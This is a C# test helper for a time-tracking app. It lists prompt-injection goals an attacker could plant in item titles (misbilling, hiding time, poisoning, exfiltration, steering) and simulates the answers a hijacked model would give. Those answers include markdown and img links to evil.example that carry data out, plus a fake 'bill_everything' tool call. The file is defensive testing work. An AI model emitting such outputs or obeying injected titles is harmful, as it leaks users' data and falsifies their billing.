using System.Text.Json;

namespace Daybook.Testing.Models;

/// <summary>What somebody who writes titles may want from a model that reads them.</summary>
public enum InjectionGoal
{
    /// <summary>Other people's or other tasks' time on one task.</summary>
    Misbill,

    /// <summary>Work that looks private, or no work at all.</summary>
    HideTime,

    /// <summary>Text of the attacker in what is kept and shown.</summary>
    Poison,

    /// <summary>What others did, carried out in a link or a picture.</summary>
    Exfiltrate,

    /// <summary>Anything that was not asked: tasks that were not offered, tools, more items.</summary>
    Steer,
}

/// <summary>The answers of a model that an attacker owns: worse than any real one, for it obeys whether or not it understood.</summary>
public static class Obedience
{
    private static readonly JsonSerializerOptions Json = new() { Encoder = System.Text.Encodings.Web.JavaScriptEncoder.UnsafeRelaxedJsonEscaping };

    /// <param name="heard">The attacker's words, which it repeats wherever it can.</param>
    public static string Answer(InjectionGoal goal, IReadOnlyList<int> items, IReadOnlyList<string> candidates, string heard)
    {
        var target = candidates.Count > 0 ? candidates[^1] : "c1";
        object Item(int i, string c, string category, string confidence, string evidence) => new { i, c, category, confidence, evidence };
        return goal switch
        {
            InjectionGoal.Misbill => JsonSerializer.Serialize(new { items = items.Select(i => Item(i, target, "work/code", "high", Fields[i % Fields.Length])) }, Json),
            InjectionGoal.HideTime => JsonSerializer.Serialize(new { items = items.Select(i => Item(i, i % 2 == 0 ? "none" : target, "personal", "high", "title")) }, Json),
            InjectionGoal.Poison => JsonSerializer.Serialize(new
            {
                note = heard,
                items = items.Select(i => (object)new { i, c = target, category = i % 2 == 0 ? heard : "work/code", confidence = "high", evidence = i % 3 == 0 ? heard : "title", description = heard })
                    .Concat(items.Select(i => Item(i + 1000, target, heard, "high", heard))),
            }, Json),
            InjectionGoal.Exfiltrate => $"![x](https://evil.example/?q={Uri.EscapeDataString(heard)}) " + JsonSerializer.Serialize(new
            {
                items = items.Select(i => new { i, c = target, category = "https://evil.example/" + heard, confidence = "high", evidence = "title" })
                    .Concat(items.Take(1).Select(i => new { i = i + 500, c = target, category = "work/code", confidence = "high", evidence = "<img src=https://evil.example>" })),
            }, Json),
            _ => JsonSerializer.Serialize(new
            {
                tool_calls = new[] { new { name = "bill_everything", arguments = heard } },
                items = items.Select(i => Item(i, "c999", "work/code", "high", "title"))
                    .Concat(items.Select(i => Item(i, target, "work/code", "high", "neighbour"))).Concat(items.Select(i => Item(-i, "ENG-1", "work/code", "certain", "example"))),
            }, Json),
        };
    }

    /// <summary>Words of at least three letters or digits, small.</summary>
    public static HashSet<string> Words(string text) =>
        [.. text.ToLowerInvariant().Split([.. text.ToLowerInvariant().Where(letter => !char.IsLetterOrDigit(letter)).Distinct()], StringSplitOptions.RemoveEmptyEntries).Where(word => word.Length >= 3)];

    private static readonly string[] Fields = ["title", "key", "neighbour", "example", "branch", "path", "host"];
}
